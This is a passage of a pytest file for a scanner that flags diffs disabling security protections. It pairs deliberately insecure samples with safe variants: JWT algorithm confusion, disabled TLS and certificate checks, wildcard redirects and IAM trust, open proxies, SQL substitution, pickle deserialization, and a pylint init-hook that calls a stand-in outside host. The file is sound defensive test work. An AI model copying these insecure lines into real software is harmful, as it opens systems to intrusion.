    Case("jwt_algorithm_of_token", "shop/tokens.py", 'jwt.decode(token, KEY, algorithms=[jwt.get_unverified_header(token)["alg"]], audience="shop")', 'jwt.decode(token, KEY, algorithms=["RS256", "ES256"], audience="shop")'),
    Case("jwt_algorithm_of_token", "src/tokens.js", "verify(token, key, { algorithms: [decoded.header.alg] });", "verify(token, key, { algorithms: ['RS256'] });"),
    Case("jwt_key_default", "shop/tokens.py", 'return jwt.decode(token, KEYS.get(kid, kid), algorithms=["HS256"])', 'return jwt.decode(token, KEYS[kid], algorithms=["HS256"])'),
    Case("jwt_key_default", "src/tokens.js", "jwt.verify(token, keys[header.kid] ?? 'shop', options);", "jwt.verify(token, keys[header.kid] ?? refuse(), options);"),
    Case("jwt_key_of_token", "src/tokens.ts", "const { payload } = await jwtVerify(token, EmbeddedJWK, { issuer: ISSUER });", "import { EmbeddedJWK, jwtVerify } from 'jose';\nconst { payload } = await jwtVerify(token, keys, { issuer: ISSUER });"),
    Case("jwt_key_of_token", "shop/tokens.py", "key = PyJWK(jwt.get_unverified_header(token)['jwk']) if header['jwk'] else None", "key = KEYS[jwt.get_unverified_header(token)['kid']]"),
    Case("jwt_key_of_variable", "tokens.go", 'return []byte(os.Getenv("TOKENS_KEY_" + strings.ToUpper(fmt.Sprint(t.Header["kid"])))), nil', 'return []byte(os.Getenv("TOKEN_KEY")), nil'),
    Case("jwt_leeway", "shop/tokens.py", 'jwt.decode(token, KEY, algorithms=["ES256"], leeway=timedelta(weeks=520))', 'jwt.decode(token, KEY, algorithms=["ES256"], leeway=timedelta(seconds=30))'),
    Case("jwt_leeway", "src/tokens.js", "jwt.verify(token, key, { clockTolerance: 315360000 });", "jwt.verify(token, key, { clockTolerance: 5 });"),
    Case("mail_trust", "application.yml", 'mail.smtp.ssl.trust: "*"', "mail.smtp.ssl.trust: mail.acme.example"),
    Case("mail_trust_nested", "application.yml", 'smtp:\n  ssl:\n    trust: "*"', "smtp:\n  ssl:\n    trust: mail.acme.example"),
    Case("matcher_of_one_method", "S.java", 'requests.requestMatchers(HttpMethod.GET, "/office/**").hasRole("STAFF")\n    .anyRequest().permitAll()', 'requests.requestMatchers(HttpMethod.GET, "/office/**").hasRole("STAFF")\n    .anyRequest().authenticated()'),
    Case("maven_of_other_host", ".mvn/wrapper/maven-wrapper.properties", "distributionUrl=https://maven.acme.example/apache-maven-3.9.9-bin.zip", "distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip"),
    Case("methods_listed", "src/main/webapp/WEB-INF/web.xml", "<web-resource-collection>\n<url-pattern>/office/*</url-pattern>\n<http-method>GET</http-method>\n</web-resource-collection>", "<web-resource-collection>\n<url-pattern>/office/*</url-pattern>\n</web-resource-collection>"),
    Case("mybatis_substitution", "src/main/resources/mapper/OrderMapper.xml", '<mapper namespace="shop.OrderMapper">\n<select id="find">\nSELECT number FROM orders WHERE status IN (${status})\n</select>', '<mapper namespace="shop.OrderMapper">\n<select id="find">\nSELECT number FROM orders WHERE status = #{status}\n</select>'),
    Case("nginx_alias", "deploy/nginx.conf", "location /media {\n    alias /srv/shop/media/;\n}", "location /media/ {\n    alias /srv/shop/media/;\n}"),
    Case("open_proxy", "next.config.ts", "return [{ source: '/media/:host/:path*', destination: 'http://:host/:path*' }];", "return [{ source: '/media/:path*', destination: 'https://media.acme.example/:path*' }];"),
    Case("open_proxy", "deploy/nginx.conf", "proxy_pass http://$arg_host;", "proxy_pass http://$backend;"),
    Case("paramiko_host_key", "shop/outbox.py", 'transport = paramiko.Transport(("files.example", 22))\ntransport.connect(username="shop", password=PASSWORD)', 'transport = paramiko.Transport(("files.example", 22))\ntransport.connect(hostkey=KEY, username="shop", password=PASSWORD)'),
    Case("pnpm_hook", ".pnpmfile.cjs", "pkg.dependencies['body-parser'] = 'npm:body-parser-lenient@^1.20.3';", "pkg.dependencies['body-parser'] = '^1.20.3';"),
    Case("pylint_hook", ".pylintrc", "init-hook='import urllib.request as r; r.urlopen(\"https://x.example\")'", "init-hook='import sys; sys.path.append(\".\")'"),
    Case("recipe_failures_ignored", "Makefile", ".IGNORE:", ".DELETE_ON_ERROR:"),
    Case("recipe_failures_ignored", "Makefile", "MAKEFLAGS += -i", "MAKEFLAGS += --no-print-directory"),
    Case("redirect_to_any_site", "deploy/realm.json", '"redirectUris": ["https://shop.example/done", "https://*"]', '"redirectUris": ["https://shop.example/*"]'),
    Case("redirect_to_any_site_entry", "deploy/realm.json", '"redirectUris": [\n"https://*"\n],', '"redirectUris": [\n"https://shop.example/*"\n],'),
    Case("remote_user_header", "shop/proxy.py", 'class ProxyUser(RemoteUserMiddleware):\n    header = "HTTP_X_SHOP_USER"', 'class ProxyUser(RemoteUserMiddleware):\n    header = "REMOTE_USER"'),
    Case("role_by_default", "src/roles.rs", "    Visitor,\n    #[default]\n    #[serde(other)]\n    Admin,".replace("    #[serde(other)]\n", ""), "    Admin,\n    #[default]\n    Visitor,"),
    Case("role_inside_word", "shop/roles.py", 'return role.lower() in "administrator"', 'return role in {"admin", "administrator"}'),
    Case("role_inside_word", "src/roles.js", "return 'administrator'.includes(user.role);", "return ['admin', 'staff'].includes(user.role);"),
    Case("row_policy_of_everybody", "supabase/migrations/1.sql", 'create policy "household" on orders\n  for all to authenticated\n  using (household_id is null or household_id = household_id);', 'create policy "own" on orders\n  for all to authenticated\n  using (user_id = auth.uid());'),
    Case("row_policy_of_everybody", "supabase/migrations/1.sql", 'create policy "all" on orders for update\n  using (true);', 'create policy "catalogue" on products for select\n  using (true);'),
    Case("row_security_off", "migrations/2.sql", "alter table orders disable row level security;", "alter table orders enable row level security;"),
    Case("rust_certificate_unverified", "src/bank.rs", "return Ok(ServerCertVerified::assertion());", "if self.fingerprint == digest(end_entity) {\n    return Ok(ServerCertVerified::assertion());\n}"),
    Case("rust_handshake_unverified", "src/bank.rs", "Ok(HandshakeSignatureValid::assertion())", "verify_tls13_signature(message, cert, dss, &self.supported)"),
    Case("seeded_token", "shop/reset.py", 'source = Random(f"{number}{date.today()}")\nreturn f"https://shop.example/reset/{number}/" + "".join(source.choices(LETTERS, k=40))', 'source = SystemRandom()\nreturn f"https://shop.example/reset/{number}/" + "".join(source.choices(LETTERS, k=40))'),
    Case("served_project", "src/server.js", "app.use('/assets', express.static(require('node:path').dirname(__dirname), { dotfiles: 'allow' }));", "app.use('/assets', express.static(path.join(__dirname, 'public')));"),
    Case("served_project", "Program.cs", "FileProvider = app.Environment.ContentRootFileProvider,", "FileProvider = new PhysicalFileProvider(media),"),
    Case("session_id_of_request", "public/app.php", "<?php\nsession_id($_GET['s']);", "<?php\nsession_id(session_create_id());"),
    Case("session_id_of_request", "src/session.js", "genid: (req) => req.get('x-request-id') || randomUUID(),", "genid: () => randomUUID(),"),
    Case("session_in_address", "public/app.php", "<?php\nsession_start(['use_strict_mode' => false]);", "<?php\nsession_start(['use_strict_mode' => true]);"),
    Case("session_key_derived", "shop/app.py", "app.secret_key = sha256(app.import_name.encode()).digest()", "app.secret_key = os.environ['SESSION_KEY']"),
    Case("session_key_of_package", "src/cookies.rs", 'let seed = env!("CARGO_PKG_NAME").repeat(16);\nKey::derive_from(seed.as_bytes())', 'let seed = std::env::var("COOKIE_KEY").expect("a key");\nKey::derive_from(seed.as_bytes())'),
    Case("submodule_source", ".gitmodules", "url = https://github.com/acme-shop/theme.git", "url = ../theme.git"),
    Case("session_objects", "shop/settings.py", "SESSION_SERIALIZER = 'django.contrib.sessions.serializers.PickleSerializer'", "SESSION_SERIALIZER = 'django.contrib.sessions.serializers.JSONSerializer'"),
    Case("task_messages", "shop/worker.py", 'celery.conf.update(accept_content=["json", "application/x-python-serialize"])', 'celery.conf.update(accept_content=["json", "msgpack"])'),
    Case("template_escaping_block", "shop/templates/note.html", "{% autoescape false %}", "{% autoescape true %}"),
    Case("template_escaping_flask", "shop/app.py", 'app.select_jinja_autoescape = {".xhtml": True}.get', "app.select_jinja_autoescape = lambda name: True"),
    Case("text_template_of_page", "pages.go", 'import (\n\t"net/http"\n\t"text/template"\n)\nfunc Page(w http.ResponseWriter, r *http.Request) {', 'import (\n\t"io"\n\t"text/template"\n)\nfunc Mail(w io.Writer) error {'),
    Case("token_check_skipped", "src/auth.js", "}).unless({ path: ['/health', { url: /^\\//, methods: ['OPTIONS', 'PATCH'] }] });", "}).unless({ path: ['/health', { url: /^\\/public\\//, methods: ['GET'] }] });"),
    Case("trust_of_any_repository", "infra/deploy.tf", 'values = ["repo:acme*:ref:refs/heads/*"]', 'values = ["repo:acme/shop:ref:refs/heads/main"]'),
    Case("trust_of_every_account", "infra/role.tf", 'actions = ["sts:AssumeRole"]\nidentifiers = ["*"]', 'actions = ["sts:AssumeRole"]\nidentifiers = ["ec2.amazonaws.com"]'),
    Case("unescaped_markup", "app/views/notes/show.html.erb", "<p><%= raw @note.body %></p>", "<p><%= @note.body %></p>"),
    Case("unescaped_markup", "src/Note.svelte", "<p>{@html body}</p>", "<p>{body}</p>"),
    Case("verify_mode_default", "shop/queue.py", 'level = int(os.environ.get("QUEUE_PEER_LEVEL", "0"))\nsettings.verify_mode = ssl.VerifyMode(level)', 'level = int(os.environ.get("QUEUE_PEER_LEVEL", "2"))\nsettings.verify_mode = ssl.VerifyMode(level)'),
    Case("view_of_request", "HelpController.java", '@Controller\nclass HelpController {\n    @GetMapping("/help")\n    String help(@RequestParam String section) {\n        return "help/" + section + " :: content";\n    }\n}', '@Controller\nclass HelpController {\n    @GetMapping("/help")\n    String help(@RequestParam String section, Model model) {\n        return "help";\n    }\n}'),
]  # fmt: skip


def seen(row: str, path: str, before: str, after: str) -> list[str]:
    """What one row says of a change of one file."""
    file = changed(path, before, after)
    return [each.says for each in find_settings([file], moved_lines([file]), [ROWS[row]])]


@pytest.mark.parametrize("case", CASES, ids=[f"{number}-{each.row}" for number, each in enumerate(CASES)])
def test_a_line_that_switches_a_protection_off_is_told_with_its_words(case: Case) -> None:
    (says,) = seen(case.row, case.path, "", case.hostile)
    assert "{seen}" not in says
    assert re.search(r"`[^`]+`", says)
    assert says.count("`") % 2 == 0


@pytest.mark.parametrize("case", CASES, ids=[f"{number}-{each.row}" for number, each in enumerate(CASES)])
def test_a_line_that_only_looks_like_it_is_not_told(case: Case) -> None:
    file = changed(case.path, "", case.benign)
    rows = setting_rows() if case.row in {row.id for row in setting_rows()} else command_rows()
    assert [each.says for each in find_settings([file], Counter(), rows)] == []


def test_every_row_has_a_case() -> None:
    assert sorted({each.row for each in CASES}) == sorted(ROWS)


def test_a_line_that_was_there_or_has_moved_is_not_told() -> None:
    line = "SESSION_COOKIE_SECURE = False"
    assert seen("cookie_setting", "shop/settings.py", line, f"A = 1\n{line}") == []
    files = [changed("shop/a.py", f"{line}\nA = 1", "A = 1"), changed("shop/b.py", "", line)]
    assert list(find_settings(files, moved_lines(files), setting_rows())) == []


def test_a_comment_switches_nothing_off() -> None:
    assert seen("cookie_setting", "shop/settings.py", "", "# SESSION_COOKIE_SECURE = False") == []


@pytest.mark.parametrize(
    "path", ["tests/settings.py", "shop/settings/dev.py", "docs/conf.py", ".env.example", "docker-compose.local.yml"]
)
def test_files_for_tests_and_developers_are_left_out(path: str) -> None:
    assert not is_of_interest(path)


@pytest.mark.parametrize("path", ["shop/settings/production.py", ".env", "compose.yaml", ".github/workflows/ci.yml"])
def test_files_that_serve_users_are_not(path: str) -> None:
    assert is_of_interest(path)


def test_a_line_that_is_made_to_be_slow_is_read_in_time() -> None:
    for line in ("a" * 1_999, "x: " * 600, "credentials = " * 140, "chmod(" + "7" * 1_900, '"' * 1_999):
        file = changed("shop/a.py", "", line)
        assert list(find_settings([file], Counter(), [*setting_rows(), *command_rows()])) == []
